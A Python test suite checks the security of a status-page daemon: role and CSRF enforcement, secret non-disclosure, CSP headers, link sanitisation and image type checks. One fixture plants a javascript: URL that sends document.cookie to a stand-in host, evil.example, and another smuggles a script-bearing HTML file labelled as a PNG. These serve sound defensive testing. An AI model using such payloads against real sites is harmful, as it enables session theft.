"""No page or endpoint reveals a secret or a token hash; every state-changing endpoint refuses
a missing or weak role, and every state-changing page a missing CSRF token."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import aiohttp
import psycopg

from tests.harness import Harness, eventually, start_daemon, write_config
from tests.peers.mastodon_api import TOKEN as MASTO_TOKEN
from tests.peers.postgres_db import ADMIN_DSN, throwaway_database
from tests.peers.samples import PNG
from tests.peers.webhook_receiver import WebhookReceiver
from tests.web.conftest import HOOK_SECRET
from tests.web.web_session import login

FEED_ONLY = """
[channels.status]
type = "feed"

[routes.default]
tiers = [["status"]]
"""
# Every state-changing API endpoint, the role it needs, and a valid body.
API_CHANGES = [
    ("POST", "/api/v1/messages", "publisher", {"text": "hello"}),
    ("PATCH", "/api/v1/messages/{id}", "publisher", {"text": "edited"}),
    ("POST", "/api/v1/messages/{id}/cancel", "publisher", None),
    ("POST", "/api/v1/messages/{id}/retract", "publisher", None),
    ("POST", "/api/v1/channels/hook/force", "operator", {"state": "down"}),
    ("POST", "/api/v1/tokens", "admin", {"name": "n", "role": "viewer"}),
    ("DELETE", "/api/v1/tokens/{token}", "admin", None),
    ("DELETE", "/api/v1/sessions/{session}", "admin", None),
    ("POST", "/api/v1/subscribers", "admin", {"url": "https://hooks.example/in"}),
    ("POST", "/api/v1/subscribers/import", "admin", None),
    ("DELETE", "/api/v1/subscribers/{id}", "admin", None),
    ("POST", "/api/v1/incidents", "publisher", {"title": "t", "body": "b"}),
    ("POST", "/api/v1/incidents/{id}/updates", "publisher", {"state": "identified", "body": "b"}),
    ("POST", "/api/v1/incidents/{id}/publish", "publisher", None),
    ("POST", "/api/v1/maintenances", "publisher", {"title": "t", "body": "b"}),
    ("POST", "/api/v1/components", "operator", {"id": "c", "name": "C"}),
    ("PATCH", "/api/v1/components/hook", "operator", {"status": "major_outage"}),
]
WEAKER = {"publisher": "viewer", "operator": "publisher", "admin": "operator"}
# Every state-changing page and the role it needs.
UI_CHANGES = {
    "/ui/compose": "publisher",
    "/ui/preview": "publisher",
    "/ui/messages/{id}/cancel": "publisher",
    "/ui/messages/{id}/edit": "publisher",
    "/ui/messages/{id}/move": "publisher",
    "/ui/messages/{id}/retract": "publisher",
    "/ui/channels/hook/force": "operator",
    "/ui/tokens": "admin",
    "/ui/tokens/{token}/revoke": "admin",
    "/ui/sessions/{session}/end": "admin",
    "/ui/logout": "viewer",
    "/ui/fediverse/requests": "operator",
    "/ui/messages/{id}/fediverse-update": "publisher",
    "/ui/messages/{id}/fediverse-delete": "publisher",
    "/ui/subscribers/{id}/delete": "admin",
    "/ui/incidents/new": "publisher",
    "/ui/incidents/preview": "publisher",
    "/ui/incidents/{id}": "publisher",
    "/ui/incidents/{id}/resolve": "publisher",
    "/ui/incidents/{id}/publish": "publisher",
    "/ui/maintenance/new": "publisher",
    "/ui/components": "operator",
    "/ui/components/hook": "operator",
}


def _post_routes(web: Harness, prefix: str) -> set[str]:
    app = web.daemon._runner.app  # type: ignore[union-attr]
    return {
        re.sub(r"\{(\w+):[^}]+\}", r"{\1}", r.resource.canonical)  # type: ignore[union-attr]
        for r in app.router.routes()
        if r.method in ("POST", "PATCH", "PUT", "DELETE")
        and r.resource is not None and r.resource.canonical.startswith(prefix)
    }  # fmt: skip


async def test_the_lists_cover_every_state_changing_route(web: Harness) -> None:
    api = {p.replace("{name}", "hook") for p in _post_routes(web, "/api/")}
    assert api == {
        path.replace("{token}", "{id}").replace("{session}", "{id}")
        for _, path, _, _ in API_CHANGES
    } | {
        "/api/v1/preview"  # reads only; needs a token like every API call
    }
    ui = {p.replace("{name}", "hook").replace("/tokens/{id}", "/tokens/{token}")
          .replace("/sessions/{id}", "/sessions/{session}")
          for p in _post_routes(web, "/ui/")}  # fmt: skip
    assert ui == set(UI_CHANGES) | {"/ui/login"}


async def test_api_changes_refuse_a_missing_or_weak_role(web: Harness) -> None:
    m = await web.post(text="scheduled", scheduled_at="2099-01-01T00:00:00Z")
    _, token = await web.request("POST", "/api/v1/tokens", json={"name": "t", "role": "viewer"})
    async with aiohttp.ClientSession() as s:
        for method, path, role, body in API_CHANGES:
            url = web.url + path.format(id=m["id"], token=token["id"], session=999)
            async with s.request(method, url, json=body) as r:
                assert r.status == 401, (method, path, r.status)
                assert r.content_type == "application/problem+json"
            weak = {"Authorization": f"Bearer {web.tokens[WEAKER[role]]}"}
            async with s.request(method, url, json=body, headers=weak) as r:
                assert r.status == 403, (method, path, r.status)
                assert f"needs the {role} role" in (await r.json())["detail"]
    assert (await web.message(m["id"]))["text"] == "scheduled"  # nothing changed


async def test_ui_changes_refuse_missing_csrf_missing_session_and_weak_role(web: Harness) -> None:
    m = await web.post(text="scheduled", scheduled_at="2099-01-01T00:00:00Z")
    _, token = await web.request("POST", "/api/v1/tokens", json={"name": "t", "role": "viewer"})
    admin, admin_csrf = await login(web.url, web.tokens["admin"])
    async with admin, aiohttp.ClientSession() as anonymous:
        for path, role in UI_CHANGES.items():
            url = web.url + path.format(id=m["id"], token=token["id"], session=999)
            form = {"state": "down", "name": "x", "role": "viewer", "text": "t"}
            async with anonymous.post(url, data={**form, "csrf": admin_csrf}) as r:
                assert r.status == 403, (path, "no session", r.status)
            async with admin.post(url, data=form, allow_redirects=False) as r:
                assert r.status == 403, (path, "no csrf", r.status)
                assert "CSRF" in await r.text()
            async with admin.post(url, data={**form, "csrf": "forged"}) as r:
                assert r.status == 403, (path, "wrong csrf", r.status)
            if role != "viewer":
                weak, weak_csrf = await login(web.url, web.tokens[WEAKER[role]])
                async with weak, weak.post(url, data={**form, "csrf": weak_csrf}) as r:
                    assert r.status == 403, (path, "weak role", r.status)
    assert (await web.message(m["id"]))["state"] == "scheduled"
    _, channels = await web.request("GET", "/api/v1/channels")
    assert {c["name"]: c["forced"] for c in channels["items"]}["hook"] == "auto"


async def test_login_needs_its_form_nonce_and_sets_a_strict_httponly_cookie(web: Harness) -> None:
    async with (
        aiohttp.ClientSession() as anon,
        anon.post(web.url + "/ui/login", data={"token": web.tokens["admin"]}) as r,
    ):
        assert r.status == 403  # login CSRF: no nonce from our own form
    s, _ = await login(web.url, web.tokens["viewer"])
    async with s:
        async with s.get(web.url + "/ui/login") as r:
            nonce = re.search(r'name="nonce" value="([^"]+)"', await r.text())
        assert nonce
        async with s.post(web.url + "/ui/login", allow_redirects=False,
                          data={"nonce": nonce[1], "token": web.tokens["viewer"]}) as r:  # fmt: skip
            cookie = r.headers.get("Set-Cookie", "")
        assert "failover_session=" in cookie
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
        async with s.get(web.url + "/ui/compose") as r:
            assert r.status == 403 and "publisher" in await r.text()  # a viewer may only look


async def test_revoking_a_token_ends_its_web_sessions(web: Harness) -> None:
    _, token = await web.request("POST", "/api/v1/tokens", json={"name": "t", "role": "viewer"})
    s, _ = await login(web.url, token["token"])
    async with s:
        async with s.get(web.url + "/ui/", allow_redirects=False) as r:
            assert r.status == 200
        await web.request("DELETE", f"/api/v1/tokens/{token['id']}")
        async with s.get(web.url + "/ui/", allow_redirects=False) as r:
            assert r.status == 303 and r.headers["Location"].startswith("/ui/login")


async def test_no_page_or_endpoint_reveals_a_secret_or_a_token_hash(web: Harness) -> None:
    m = await web.post(text="watch this", route="fediverse")
    await web.wait_state(m["id"], "delivered")
    hashes = [hashlib.sha256(t.encode()).hexdigest() for t in web.tokens.values()]
    forbidden = [HOOK_SECRET, MASTO_TOKEN, *web.tokens.values(), *hashes]
    s, _ = await login(web.url, web.tokens["admin"])
    pages = ["/ui/", "/ui/compose", "/ui/scheduled", "/ui/tokens", f"/ui/messages/{m['id']}",
             "/status/", "/status/state.json", "/status/feed.atom", "/status/feed.json",
             "/metrics", "/api/v1/openapi.json"]  # fmt: skip
    api = ["/api/v1/status", "/api/v1/channels", "/api/v1/messages", "/api/v1/events?limit=1000",
           f"/api/v1/messages/{m['id']}", "/api/v1/tokens"]  # fmt: skip
    async with s:
        seen = {}
        for path in pages:
            async with s.get(web.url + path) as r:
                assert r.status == 200, path
                seen[path] = await r.text()
        for path in api:
            _, body = await web.request("GET", path, role="admin")
            seen[path] = str(body)
    for path, text in seen.items():
        for value in forbidden:
            assert value not in text, f"{path} reveals a secret"
    assert "watch this" in seen["/ui/"] and "watch this" in seen["/status/"]  # pages are real


# -- output that stays well-formed ---------------------------------------------------------


async def test_status_files_carry_their_content_types_and_security_headers(web: Harness) -> None:
    m = await web.post(text="all good", route="fediverse")
    await web.wait_state(m["id"], "delivered")
    async with aiohttp.ClientSession() as s:
        async with s.get(web.url + "/status/") as r:
            assert r.status == 200 and r.content_type == "text/html"
            csp = r.headers["Content-Security-Policy"]
            html = await r.read()
            assert r.headers["X-Content-Type-Options"] == "nosniff"
            assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert "default-src 'none'" in csp and "unsafe-inline" not in csp
        script = re.search(rb"<script>(.*?)</script>", html, re.DOTALL)
        assert script is not None  # its hash, and nothing else inline, may run
        digest = base64.b64encode(hashlib.sha256(script[1]).digest()).decode()
        assert f"script-src 'self' 'sha256-{digest}'" in csp
        for name, kind in [("feed.atom", "application/atom+xml"),
                           ("feed.json", "application/feed+json")]:  # fmt: skip
            async with s.get(web.url + "/status/" + name) as r:
                assert r.status == 200 and r.content_type == kind, name
                assert r.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_receipt_url_becomes_a_link_only_if_it_is_http(
    web: Harness, hook: WebhookReceiver
) -> None:
    hook.answer_url = "javascript:fetch('//evil.example/'+document.cookie)//{n}"
    m = await web.post(text="evil receiver")
    await web.wait_state(m["id"], "delivered")
    hook.answer_url = "https://hooks.example/{n}"
    good = await web.post(text="good receiver")
    await web.wait_state(good["id"], "delivered")
    assert (await web.message(m["id"]))["deliveries"][0]["url"] is None
    assert (await web.message(good["id"]))["deliveries"][0]["url"].startswith("https://")
    s, _ = await login(web.url, web.tokens["viewer"])
    async with s:
        for path in ("/ui/", f"/ui/messages/{m['id']}"):
            async with s.get(web.url + path) as r:
                html = await r.text()
            assert not re.search(r"""(href|src)=["']?\s*javascript:""", html), path
        async with s.get(web.url + f"/ui/messages/{good['id']}") as r:
            assert 'href="https://hooks.example/' in await r.text()


async def test_readyz_shows_no_driver_text(tmp_path: Path) -> None:
    with throwaway_database() as dsn:
        path = write_config(tmp_path, FEED_ONLY)
        path.write_text(f'store = "{dsn}"\n' + path.read_text())
        h = await start_daemon(path)
        name = dsn.rsplit("/", 1)[1]
        try:
            assert await h.request("GET", "/readyz", role=None) == (200, {"status": "ready"})
            with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
                admin.execute(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS false')
                admin.execute(
                    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s",
                    (name,),
                )

            async def not_ready() -> bool:
                return (await h.request("GET", "/readyz", role=None))[0] == 503

            await eventually(not_ready)  # the write check runs on its own beat
            _, body = await h.request("GET", "/readyz", role=None)
            assert body["status"] == "not ready"
            for driver_text in (name, "postgres", "127.0.0.1", "5432", "PostgreSQL"):
                assert driver_text not in body["reason"], body
        finally:
            with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
                admin.execute(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS true')
            await eventually(lambda: _ready(h))  # the pool has dropped its dead connections
            await h.daemon.stop()


async def _ready(h: Harness) -> bool:
    return (await h.request("GET", "/readyz", role=None))[0] == 200


# -- authority and integrity ---------------------------------------------------------------


async def test_publishers_cannot_post_to_internal_routes(tmp_path: Path) -> None:
    config = FEED_ONLY + '\n[alerts]\nchannels = ["status"]\n'
    h = await start_daemon(write_config(tmp_path, config))
    try:
        status, body = await h.request(
            "POST", "/api/v1/messages", role="publisher", json={"text": "fake", "route": "_alerts"}
        )
        assert status == 422 and body["field"] == "route", body
        assert "_alerts" not in body["detail"].partition("known:")[2]
        status, body = await h.request(
            "POST", "/api/v1/preview", json={"text": "fake", "route": "_alerts"}
        )
        assert status == 422 and body["field"] == "route"
        _, messages = await h.request("GET", "/api/v1/messages")
        assert messages["items"] == []
        # Operators may: a drill sends its test message to the operators' own route.
        status, body = await h.request(
            "POST", "/api/v1/messages", role="operator", json={"text": "drill", "route": "_alerts"}
        )
        assert status == 201 and body["route"] == "_alerts", body
    finally:
        await h.daemon.stop()


async def test_idempotency_keys_are_scoped_per_token(web: Harness) -> None:
    _, other = await web.request("POST", "/api/v1/tokens", json={"name": "b", "role": "publisher"})
    key = {"Idempotency-Key": "campaign-42"}
    a = await web.post(text="from A", headers=key)
    async with aiohttp.ClientSession() as s:
        b_headers = {**key, "Authorization": f"Bearer {other['token']}"}
        async with s.post(web.url + "/api/v1/messages", json={"text": "from B"},
                          headers=b_headers) as r:  # fmt: skip
            assert r.status == 201  # B's key names B's message, not A's (no replay, no 409)
            b = await r.json()
    assert b["id"] != a["id"] and b["text"] == "from B" and b["idempotency_key"] == "campaign-42"
    again = await web.post(text="from A", headers=key)
    assert again["id"] == a["id"]  # A's own replay still works
    status, _ = await web.request("POST", "/api/v1/messages", role="publisher",
                                  json={"text": "changed"}, headers=key)  # fmt: skip
    assert status == 409


async def test_image_bytes_must_match_their_declared_type(web: Harness) -> None:
    html = base64.b64encode(b"<html><script>alert(1)</script></html>").decode()
    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
        "text": "look", "images": [{"data": html, "content_type": "image/png"}]})  # fmt: skip
    assert status == 422 and body["field"] == "images.0.data", body
    assert "image/png" in body["detail"]
    gif_as_png = base64.b64encode(b"GIF89a" + b"\0" * 20).decode()
    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
        "text": "look", "images": [{"data": gif_as_png, "content_type": "image/png"}]})  # fmt: skip
    assert status == 422 and body["field"] == "images.0.data"
    ok = base64.b64encode(PNG).decode()
    m = await web.post(text="look", images=[{"data": ok, "content_type": "image/png"}])
    assert m["images"][0]["size"] == len(PNG)


async def test_images_are_checked_against_every_channel_the_route_can_reach(
    web: Harness,
) -> None:
    # The default route reaches the webhook (5 MB), Mastodon (8 MB) and the feed (10 MB).
    six_mb = base64.b64encode(PNG + b"\0" * (6 * 1024 * 1024 - len(PNG))).decode()
    status, body = await web.request("POST", "/api/v1/messages", role="publisher", json={
        "text": "big", "images": [{"data": six_mb, "content_type": "image/png"}]})  # fmt: skip
    assert status == 422 and body["field"] == "images.0.data", body
    assert "channel hook takes at most 5242880" in body["detail"]
    media = web.daemon.media_dir
    assert not media.exists() or list(media.iterdir()) == []  # nothing stored
    _, messages = await web.request("GET", "/api/v1/messages")
    assert messages["items"] == []
